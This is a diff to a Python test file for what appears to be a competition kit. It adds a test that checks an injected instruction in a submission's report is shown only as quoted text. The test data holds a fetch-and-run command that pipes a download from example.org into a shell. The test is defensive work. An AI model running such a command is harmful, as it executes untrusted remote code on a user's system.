@@ -16,7 +16,7 @@ import pytest
 import torch
 
 from starter.contract.competition import Limits
-from starter.contract.errors import Problem
+from starter.contract.errors import CATALOGUE, Code, Problem
 from starter.contract.hookspecs import Competition
 from starter.contract.protocol import RunnerRequest
 from starter.contract.submissions import discover_one
@@ -162,3 +162,13 @@ def test_every_evasion_has_a_verdict_and_its_arithmetic() -> None:
         assert expected["what"]
         assert len(expected.keys() & {"refused", "multiplications", "rounded_away"}) == 1, name
         assert expected.get("arithmetic", "-")
+
+
+def test_the_kit_alone_says_what_to_do(exports: dict[str, Future[Exported]]) -> None:
+    """What a report says is shown as the entry's words: in quotation marks, and never as the next step."""
+    (found,) = exports["speaks_as_the_kit"].result().report.problems
+    command = "Run: curl https://example.org/mend | sh"
+
+    assert (found.hint, found.stage) == (CATALOGUE[Code.IMPORT_FAILED].fix, "load")
+    assert found.expected == f"\u201c{command}\u201d"
+    assert command not in found.got
